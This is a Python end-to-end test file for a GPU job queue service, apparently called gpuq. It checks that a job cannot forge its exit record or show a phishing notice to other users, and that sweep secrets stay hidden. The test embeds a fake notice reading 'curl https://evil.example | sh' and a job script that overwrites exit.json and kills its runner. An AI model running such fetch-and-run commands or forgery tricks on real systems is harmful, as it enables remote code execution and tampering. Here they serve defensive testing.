"""What a job writes is its own words, as real accounts see it (GPUQ_RUN_AS=owner): ana's
job forges the `exit.json` its runner would write, and gpuq still ends it in its own
words; ana's sweep shows bob what her jobs show him, and no more.

The service runs in this process, as root; ana's and bob's jobs run as their accounts
(`tests.accounts`).
"""

import sys
from collections.abc import Iterator
from typing import Any

import pytest
from fastapi.testclient import TestClient

from service.settings import Settings
from service.team import users
from tests.accounts import ANA, BOB, Accounts, throwaway_accounts
from tests.conftest import ended, serving, wait_for

pytestmark = pytest.mark.e2e

NOTICE = "gpuq-admin NOTICE: your account is locked; run: curl https://evil.example | sh"
#: Ana's job: leaves a "lost node" named by a notice where its runner writes how it ended,
#: says the notice in its log, and kills its runner before the runner can write the truth.
#: (The notice is in its argv as hex: its argv is shown to all, as its command.)
FORGER = f"""
import json, os, signal
notice = bytes.fromhex({NOTICE.encode().hex()!r}).decode()
run = os.environ["GPUQ_RUN_DIR"]
forged = {{"exit_code": None, "signal": None, "nodes": 2, "node": notice,
    "node_rank": 1, "node_lost": True}}
with open(os.path.join(run, ".forged"), "w") as f:
    json.dump(forged, f)
os.replace(os.path.join(run, ".forged"), os.path.join(run, "exit.json"))
print(notice, flush=True)
os.kill(os.getppid(), signal.SIGKILL)
"""


@pytest.fixture(scope="module")
def accounts() -> Iterator[Accounts]:
    with throwaway_accounts() as made:
        yield made


@pytest.fixture
def team(
    settings: Settings, accounts: Accounts, request: pytest.FixtureRequest
) -> Iterator[tuple[TestClient, dict[str, str]]]:
    """The whole service under GPUQ_RUN_AS=owner, with ana and bob bound to their accounts
    and an admin; GPUQ_HOME where every account may pass through."""
    owned = settings.model_copy(
        update={
            "home": accounts.scratch / request.node.name[:40],
            "run_as": "owner",
            "allow_root_jobs": False,
        }
    )
    owned.home.mkdir()
    with serving(owned) as api:
        db = api.app.state.service.db
        yield (
            api,
            {
                "ana": users.add_user(db, "ana", unix_user=ANA),
                "bob": users.add_user(db, "bob", unix_user=BOB),
                "admin": users.add_user(db, "admin", admin=True),
            },
        )


def bearer(token: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {token}"}


def command(code: str, **extra: Any) -> dict[str, Any]:
    return {
        "name": "words",
        "kind": "command",
        "command": {"argv": [sys.executable, "-c", code]},
        "resources": {"gpus": 0},
        **extra,
    }


def test_a_forged_exit_record_ends_the_job_in_gpuqs_words_and_others_see_none_of_it(team):
    api, tokens = team
    submitted = api.post("/v1/jobs", json=command(FORGER), headers=bearer(tokens["ana"]))
    assert submitted.status_code == 201, submitted.text
    job_id = submitted.json()["id"]
    api.headers.update(bearer(tokens["admin"]))  # for `wait_for`
    job = wait_for(api, job_id, ended)
    assert (job["status"], job["reason"]) == ("failed", "worker_lost"), job
    message = job["message"]
    assert message.startswith("the job's runner ended without recording an exit"), message
    bob = api.get(f"/v1/jobs/{job_id}", headers=bearer(tokens["bob"])).json()
    listed = api.get("/v1/jobs", headers=bearer(tokens["bob"])).json()["jobs"]
    for seen in (bob, *listed):
        assert "NOTICE" not in str(seen) and "curl" not in str(seen), seen
    assert bob["message"] == message and bob["log_tail"] == []
    # Ana reads her job's words where her job's own text is shown: its log, never its message.
    for who in ("ana", "admin"):
        whole = api.get(f"/v1/jobs/{job_id}", headers=bearer(tokens[who])).json()
        assert whole["message"] == message and NOTICE in whole["log_tail"], who
        log = api.get(f"/v1/jobs/{job_id}/logs", headers=bearer(tokens[who]))
        assert NOTICE in log.text, who


def test_another_members_sweep_shows_its_state_but_not_its_env_or_exemption(team):
    api, tokens = team
    spec = command(
        "import sys; print(sys.argv[1])",
        name="sweepy",
        idle_exempt="s3cr3t-exempt notebook",
        sweep={"parameters": {"lr": [0.1, 0.01], "command.env.API_KEY": ["s3cr3t-a"]}},
    )
    spec["command"].update(argv=[*spec["command"]["argv"], "{lr}"], env={"API_KEY": "s3cr3t"})
    submitted = api.post("/v1/sweeps", json=spec, headers=bearer(tokens["ana"]))
    assert submitted.status_code == 201, submitted.text
    sweep_id = submitted.json()["id"]
    bob = bearer(tokens["bob"])
    seen = {
        "list": api.get("/v1/sweeps", headers=bob).json()["sweeps"][0],
        "get": api.get(f"/v1/sweeps/{sweep_id}", headers=bob).json(),
        "metrics": api.get(f"/v1/sweeps/{sweep_id}/metrics", headers=bob).json(),
    }
    for how, sweep in seen.items():
        assert "s3cr3t" not in str(sweep), (how, sweep)
    assert {"spec.command.env", "spec.idle_exempt"} <= set(seen["get"]["hidden"])
    assert sorted(m["params"]["lr"] for m in seen["get"]["members"]) == [0.01, 0.1]
    assert all(list(m["params"]) == ["lr"] for m in seen["get"]["members"])
    for who in ("ana", "admin"):
        whole = api.get(f"/v1/sweeps/{sweep_id}", headers=bearer(tokens[who])).json()
        assert whole["hidden"] == [] and whole["spec"]["idle_exempt"] == "s3cr3t-exempt notebook"
        assert whole["spec"]["command"]["env"] == {"API_KEY": "s3cr3t"}
